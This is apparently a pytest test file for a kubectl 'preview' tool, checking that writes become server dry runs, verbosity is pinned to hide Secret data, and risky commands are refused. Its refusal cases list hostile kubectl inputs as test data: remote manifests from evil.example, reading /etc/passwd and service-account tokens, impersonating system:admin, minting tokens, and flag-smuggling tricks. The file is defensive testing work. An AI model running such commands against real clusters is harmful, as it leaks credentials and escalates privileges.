"""Which commands a preview runs and how: kubectl's grammar, read from the argv."""

from __future__ import annotations

import shlex

import pytest

from wingman.preview.commands import Mode, plan
from wingman.scope import parse


def _refusal(command: str) -> str:
    """The reason the preview gives for refusing ``command`` (which it must refuse, running
    nothing). Split without the command rules: ``parse`` refuses some of these commands
    first (``ConnectionFlag``), and the plan must refuse them on its own too."""
    p = plan(shlex.split(command))
    assert p.mode is Mode.REFUSED and p.argv == ()
    return p.reason

@pytest.mark.parametrize(("command", "mode", "verb"), [
    ("kubectl scale deployment/web --replicas=3 -n apps", Mode.DRY_RUN, "scale"),
    ("kubectl -n apps scale deployment/web --replicas=3", Mode.DRY_RUN, "scale"),
    ("kubectl --namespace apps delete deployment/web", Mode.DRY_RUN, "delete"),
    ("kubectl -v 4 set image deployment/web web=nginx:1.27 -n apps", Mode.DRY_RUN, "set"),
    ("kubectl rollout undo deployment/web -n apps", Mode.DRY_RUN, "rollout undo"),
    ("kubectl rollout restart deployment/web -n apps", Mode.PROXY, "rollout restart"),
    ("kubectl rollout pause deployment/web -n apps", Mode.PROXY, "rollout pause"),
    ("kubectl get pods -n apps", Mode.READ_ONLY, "get"),
    ("kubectl rollout status deployment/web -n apps", Mode.READ_ONLY, "rollout status"),
])
def test_writes_are_dry_runs_and_reads_are_not_run(command: str, mode: Mode, verb: str) -> None:
    argv = parse(command)
    p = plan(argv)
    assert (p.mode, p.verb) == (mode, verb)
    if mode is Mode.DRY_RUN:
        # the exact argv, then --dry-run=server and --v=0 last, where kubectl's last flag wins
        assert p.argv == (*argv, "--v=0", "--dry-run=server", "--v=0")
    elif mode is Mode.PROXY:
        assert p.argv == (*argv, "--v=0", "--v=0")  # the proxy alone makes its writes dry runs
    else:
        assert p.argv == ()


def test_a_command_cannot_switch_the_dry_run_off() -> None:
    p = plan(parse("kubectl scale deployment/web --replicas=3 --dry-run=none -n apps"))
    assert p.argv[-2:] == ("--dry-run=server", "--v=0")


@pytest.mark.parametrize("command", [
    "kubectl -v=9 label secret db a=b -n apps",
    "kubectl label secret db a=b -n apps --v 8",
    "kubectl rollout restart deployment/web -n apps -v9",
])
def test_a_command_cannot_make_kubectl_log_response_bodies(command: str) -> None:
    # at -v=8 and above kubectl logs the API server's answers (a Secret's data) on stderr,
    # which the preview reads for its errors: its own --v=0 comes last and wins
    p = plan(parse(command))
    assert p.mode in (Mode.DRY_RUN, Mode.PROXY) and p.argv[-1] == "--v=0"


@pytest.mark.parametrize(("command", "why"), [
    ("kubectl exec web -n apps -- sh", "'--'"),
    ("kubectl exec web -n apps", "interactive"),
    ("kubectl port-forward svc/web 8080 -n apps", "interactive"),
    ("kubectl create token default -n apps", "mints a credential"),
    ("kubectl scale deployment/web --replicas=3 --server=https://evil.example", "--server"),
    ("kubectl --kubeconfig=/etc/other scale deployment/web --replicas=3", "--kubeconfig"),
    ("kubectl scale deployment/web --replicas=3 --as=system:admin", "--as"),
    ("kubectl apply -f https://example.com/evil.yaml", "-f"),
    ("kubectl apply -f/etc/passwd", "-f"),
    ("kubectl create configmap x --from-file=/var/run/secrets/token", "--from-file"),
    ("kubectl frobnicate deployment/web", "not a verb the preview knows"),
    ("kubectl rollout frob deployment/web", "not a subcommand"),
    ("kubectl --cheese scale deployment/web", "before the verb"),
    ("kubectl -n apps", "names no kubectl verb"),
    ("kubectl label secret db a=b -n apps --vmodule=round_trippers=9", "--vmodule"),
    ("kubectl scale deployment/web --replicas=3 --kuberc=/tmp/k", "--kuberc"),
])
def test_what_cannot_be_dry_run_safely_is_refused_with_a_reason(command: str, why: str) -> None:
    assert why in _refusal(command)


@pytest.mark.parametrize("command", [
    "kubectl create -n apps token default",
    "kubectl create --namespace apps token default",
    "kubectl create --duration 1h token default -n apps",
])
def test_create_token_is_refused_wherever_its_flags_put_it(command: str) -> None:
    # kubectl finds the subcommand after the values of the flags before it (cobra skips them)
    assert "mints a credential" in _refusal(command)


@pytest.mark.parametrize("command", [
    "kubectl label deployment/web a=b -n apps --field-manager",
    "kubectl delete deployment/web -n apps --cascade",
    "kubectl rollout restart deployment/web -n apps -v=9 --field-manager",
])
def test_a_trailing_flag_cannot_take_the_previews_own_flags_as_its_value(command: str) -> None:
    # a flag that takes a value consumes the next word whatever it is (pflag): the preview's
    # --dry-run=server and --v=0 must still be read as flags, last (the command rules refuse
    # such a command first, MissingFlagValue; the plan does not rely on it)
    argv = shlex.split(command)
    p = plan(argv)
    added = p.argv[len(argv):]
    assert added[0] == "--v=0"  # the word a trailing value flag may take
    assert added[1:] == (("--dry-run=server", "--v=0") if p.mode is Mode.DRY_RUN
                         else ("--v=0",))


@pytest.mark.parametrize("command", [
    "kubectl delete -Rf https://evil.example/x.yaml",
    "kubectl delete -Rfhttps://evil.example/x.yaml",
    "kubectl delete deployment/web -n apps -is https://evil.example",
    "kubectl apply -Rk https://github.com/evil/base",
])
def test_short_flags_combined_in_one_word_are_refused(command: str) -> None:
    # kubectl reads -Rf as -R then -f (pflag: a flag without a value, then the next letter)
    assert "combines short flags" in _refusal(command)


@pytest.mark.parametrize("command", [
    "kubectl scale deployment/web --replicas=3 -napps",
    "kubectl label deployment/web a=b -n apps -v4",
    "kubectl delete deployments -lapp=web -n apps",
    "kubectl patch deployment/web -n apps -p'{}' -oname",
])
def test_a_short_flag_with_its_value_attached_is_still_previewed(command: str) -> None:
    assert plan(parse(command)).mode is Mode.DRY_RUN


@pytest.mark.parametrize(("command", "why"), [
    ("kubectl create configmap x --from_file=/etc/hostname -n apps", "--from-file"),
    ("kubectl create secret generic x --from_env_file=proxy.key -n apps", "--from-env-file"),
    ("kubectl scale deployment/web --replicas=3 --as_group=system:masters", "--as-group"),
    ("kubectl scale deployment/web --replicas=3 --insecure_skip_tls_verify", "--insecure"),
    ("kubectl scale deployment/web --replicas=3 --profile_output=/tmp/x", "--profile-output"),
])
def test_a_flag_spelled_with_underscores_is_the_flag_kubectl_reads(command: str, why: str) -> None:
    # kubectl normalises '_' in flag names to '-' (--from_file is --from-file)
    assert why in _refusal(command)


@pytest.mark.parametrize("command", [
    "kubectl rollout -n status restart deployment/web",
    "kubectl rollout --namespace history undo deployment/web",
    "kubectl auth -v 4 can-i delete pods",
])
def test_a_flag_between_a_verb_and_its_subcommand_is_refused(command: str) -> None:
    # kubectl skips the flag's value to find the subcommand (rollout restart in namespace
    # "status"), so the word after the verb is not it: the preview must not call the command
    # read-only on the strength of that word
    assert "right after" in _refusal(command)
